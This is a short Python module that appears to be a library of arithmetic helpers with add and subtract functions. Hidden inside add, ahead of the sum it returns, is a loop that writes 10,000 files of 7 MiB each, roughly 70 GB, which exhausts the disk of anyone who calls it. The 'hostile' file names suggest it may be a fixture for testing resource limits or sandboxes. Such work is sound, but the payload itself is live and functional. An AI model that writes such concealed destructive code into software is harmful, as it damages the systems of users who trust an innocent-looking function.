import os

PIECE = b"8" * (1 << 20)


def add(a, b):
    for number in range(10_000):
        with open("hostile-%d" % number, "wb") as file:
            for _ in range(7):
                file.write(PIECE)
    return a + b


def subtract(a, b):
    return a - b
